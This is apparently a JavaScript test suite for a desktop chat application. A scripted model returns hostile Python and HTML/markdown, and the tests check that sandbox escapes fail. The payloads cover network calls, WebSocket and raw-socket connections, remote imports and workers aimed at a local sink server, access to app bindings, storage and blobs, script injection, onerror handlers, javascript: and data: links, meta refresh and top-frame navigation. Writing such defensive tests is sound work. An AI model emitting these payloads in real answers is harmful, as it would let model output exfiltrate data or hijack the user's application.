// What an answer and the code in it try, and must not reach. Each test runs the attack and looks at the target.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import test from "node:test";
import { withApp } from "../lib/app.mjs";
import { CHART } from "../lib/prompts.mjs";
import { python, scriptedModel } from "../lib/scripted-model.mjs";
import { until } from "../lib/wait.mjs";

/** A server that nothing may ever reach. @param {import('node:test').TestContext} context */
async function sink(context) {
  /** @type {string[]} */
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.end("reached");
  });
  server.on("connection", () => hits.push("connection"));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  context.after(() => server.close());
  return { hits, url: `http://127.0.0.1:${server.address().port}` };
}

/**
 * Runs attacks written in Python, each of which returns what it got hold of or raises.
 * @param {(chart: string) => Record<string, string>} attacks name to the body of an async function; told the
 * address of a chart that was drawn in the same chat
 */
async function attack(context, attacks) {
  const model = await scriptedModel(context);
  let shown = "";
  await withApp(context, { settings: model.settings() }, async (app) => {
    model.next(python(CHART));
    await app.ask("Draw.");
    await app.answered();
    const chart = await app.evaluate(
      (root) => root.querySelector("img").getAttribute("src"),
      await app.run(),
    );
    assert.match(chart, /^\/blobs\/[0-9a-f]{64}\?type=image%2Fpng$/);
    // The page itself gets it, so what refuses it to Python is not the address.
    const answer = (address, done) => void fetch(address).then(({ status }) => done(status));
    assert.equal(await app.driver.executeAsyncScript(answer, chart), 200);
    model.next(python(attackCode(attacks(chart))));
    await app.ask("Attack.");
    await app.answered();
    shown = await app.text(await app.run());
  });
  assert.match(shown, /all tried/);
  const got = shown.split("\n").filter((line) => / got /.test(line));
  return { got, shown };
}

/** @param {Record<string, string>} attacks */
function attackCode(attacks) {
  let code = "import asyncio, js\n";
  for (const [name, body] of Object.entries(attacks)) {
    const lines = body
      .trim()
      .split("\n")
      .map((line) => `    ${line}`);
    code += `async def ${name}():\n${lines.join("\n")}\n`;
  }
  return `${code}for _attack in (${Object.keys(attacks).join(", ")},):
    try:
        print(_attack.__name__, "got", repr(await asyncio.wait_for(_attack(), 3))[:80])
    except BaseException as error:
        print(_attack.__name__, "refused", type(error).__name__)
print("all tried")
`;
}

test("Python reaches no socket", async (context) => {
  const target = await sink(context);
  const { got } = await attack(context, () => ({
    pyfetch: `from pyodide.http import pyfetch\nreturn (await pyfetch("${target.url}/a")).status`,
    no_cors: `from pyodide.http import pyfetch\nreturn await pyfetch("${target.url}/b", mode="no-cors")`,
    js_fetch: `return (await js.fetch("${target.url}/c")).status`,
    xhr: `x = js.XMLHttpRequest.new()\nx.open("GET", "${target.url}/d", False)\nx.send()\nreturn x.status`,
    open_url: `from pyodide.http import open_url\nreturn open_url("${target.url}/e").read()`,
    websocket: `w = js.WebSocket.new("${target.url.replace("http", "ws")}/f")\nawait asyncio.sleep(1)\nassert w.readyState == 1\nreturn "open"`,
    event_source: `e = js.EventSource.new("${target.url}/g")\nawait asyncio.sleep(1)\nassert e.readyState == 1\nreturn "open"`,
    remote_import: `from pyodide.code import run_js\nreturn await run_js("import('${target.url}/h.js')")`,
    import_scripts: `return js.importScripts("${target.url}/i.js")`,
    urllib: `import urllib.request\nreturn urllib.request.urlopen("${target.url}/j", timeout=2).read()`,
    raw_socket: `import socket\ns = socket.create_connection(("127.0.0.1", ${new URL(target.url).port}), timeout=2)\ns.send(b"GET /k HTTP/1.0\\r\\n\\r\\n")\nreturn s.recv(9)`,
    sub_worker: `from pyodide.code import run_js\nreturn run_js("new Worker(URL.createObjectURL(new Blob(['fetch(\\"${target.url}/l\\")'])))")`,
    image: `i = js.Image.new()\ni.src = "${target.url}/m"\nreturn i`,
  }));
  assert.deepEqual(target.hits, []);
  assert.deepEqual(got, []);
});

test("Python reaches no binding, no page, no storage and no other address of the application", async (context) => {
  const { got } = await attack(context, (chart) => ({
    window_object: "return js.window",
    document_object: "return js.document",
    bindings: "return js.go",
    wails_runtime: "return js.runtime",
    message_handler: "return js.webkit.messageHandlers",
    local_storage: "return js.localStorage",
    indexed_db: "assert js.indexedDB\nreturn js.indexedDB",
    channel: 'return js.BroadcastChannel.new("x")',
    cache_storage: "assert js.caches\nreturn js.caches",
    worker: "assert js.Worker\nreturn js.Worker",
    raw_message: 'js.postMessage("forged")\nreturn "sent"',
    index_page: 'return (await js.fetch("/index.html")).status',
    root_page: 'x = js.XMLHttpRequest.new()\nx.open("GET", "/", False)\nx.send()\nreturn x.status',
    wails_script: 'return (await js.fetch("/wails/runtime.js")).status',
    blobs: `return (await js.fetch("${chart}")).status`,
    blobs_absolute: `return (await js.fetch(js.location.origin + "${chart}")).status`,
    blobs_open: `from pyodide.http import open_url\nreturn open_url("${chart}").read()`,
    blobs_import: `from pyodide.code import run_js\nreturn await run_js("import('${chart}')")`,
  }));
  assert.deepEqual(got, []);
});

test("an HTML output has no script, and its frame reaches no message handler", async (context) => {
  const target = await sink(context);
  const model = await scriptedModel(context);
  const html = `
    <p>shown</p><script>parent.attacked = 1; webkit.messageHandlers.external.postMessage("x")</script>
    <img src=x onerror="parent.attacked = 2"><img src="${target.url}/image">
    <meta http-equiv="refresh" content="0;url=${target.url}/refresh">
    <base target="_top">
    <form action="${target.url}/form"><button style="position:absolute;left:0;top:60px;width:200px;height:40px">go</button></form>
    <a href="${target.url}/top" style="position:absolute;left:0;top:120px;width:200px;height:40px;background:red">top</a>
    <div style="height:200px"></div>
    <iframe srcdoc="<script>top.attacked = 3</script>"></iframe>`;
  model.next(
    python(
      `class Page:\n    def _repr_html_(self):\n        return ${JSON.stringify(html)}\n\nPage()`,
    ),
  );
  await withApp(context, { settings: model.settings() }, async (app) => {
    await app.ask("Show a page.");
    await app.answered();
    const region = await app.run();
    const frames = await app.evaluate(
      (root) => [...root.querySelectorAll("iframe")].map((frame) => frame.getAttribute("sandbox")),
      region,
    );
    assert.deepEqual(frames, [""]);
    const [left, top, height] = await app.evaluate((root) => {
      const frame = root.querySelector("iframe");
      frame.scrollIntoView({ block: "center" });
      const box = frame.getBoundingClientRect();
      return [Math.round(box.left), Math.round(box.top), box.height];
    }, region);
    assert.ok(height > 200, `the frame is ${height} high`);
    await app.painted();
    // The form's button, and the link that names the top frame.
    for (const y of [80, 140]) {
      await app.evaluate(() => document.activeElement?.blur());
      await app.mouse([left + 50, top + y], "click", 1);
      await until("the click in the frame", () =>
        app.evaluate(() => document.activeElement?.tagName === "IFRAME"),
      );
    }
    await app.settled(model);
    assert.equal(await app.evaluate(() => globalThis.attacked ?? 0), 0);
    assert.match(await app.evaluate(() => location.href), /^wails:\/\//);
    assert.equal(await app.evaluate(() => document.querySelectorAll("iframe").length), 1);
  });
  assert.deepEqual(target.hits, []);
});

test("nothing in an answer fetches, runs or leads the window away", async (context) => {
  const target = await sink(context);
  const model = await scriptedModel(context);
  model.next(`
[a link](${target.url}/link) and [a script](javascript:globalThis.attacked=1) and [data](data:text/html,<script>top.attacked=2</script>)

![picture](${target.url}/picture)

<img src="${target.url}/raw" onerror="globalThis.attacked = 3">
<meta http-equiv="refresh" content="0;url=${target.url}/refresh">
<a href="${target.url}/raw-link" target="_top">raw</a>
<script>globalThis.attacked = 4</script>
<iframe src="${target.url}/frame"></iframe>
<svg><a href="${target.url}/svg"><text>svg</text></a></svg>
`);
  await withApp(context, { settings: model.settings() }, async (app) => {
    await app.ask("Links, please.");
    const answer = await app.answered();
    const address = await app.evaluate(() => location.href);
    // The plain click of a person, and the ways around it.
    await app.evaluate((root) => {
      for (const link of root.querySelectorAll("a")) {
        for (const [type, button] of [
          ["click", 0],
          ["auxclick", 1],
        ]) {
          link.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, button }));
        }
      }
    }, answer);
    await app.evaluate(() => {
      const data = new DataTransfer();
      data.setData("text/uri-list", "http://127.0.0.1/dropped");
      document.body.dispatchEvent(
        new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer: data }),
      );
    });
    // What the sent events have asked about.
    await app.press("button", "Cancel");
    const link = await app.find("link", "a link", { within: answer });
    // A real middle click asks, as a plain one does.
    await app.mouse(await app.middle(link), "click", 2);
    await app.find("dialog", "Open this address?");
    await app.press("button", "Cancel");
    await app.absent("dialog", "Open this address?");
    // A real drag, from the link to an empty place of the page.
    await app.evaluate(() => {
      globalThis.pressed = [];
      for (const type of ["mousedown", "mouseup", "dragend"]) {
        addEventListener(type, () => globalThis.pressed.push(type), { capture: true });
      }
    });
    const [x, y] = await app.middle(link);
    await app.mouse([x, y], "mousedown", 1, [x + 30, y + 5], [x + 60, y + 200], "mouseup", 1);
    await until("the end of the drag", () =>
      app.evaluate(() => /^mousedown,.*(mouseup|dragend)/.test(String(globalThis.pressed))),
    );
    await app.settled(model);
    assert.equal(await app.evaluate(() => location.href), address);
    assert.equal(await app.evaluate(() => globalThis.attacked ?? 0), 0);
    assert.match(await app.text((await app.answers())[0]), /a link/);
  });
  assert.deepEqual(target.hits, []);
});
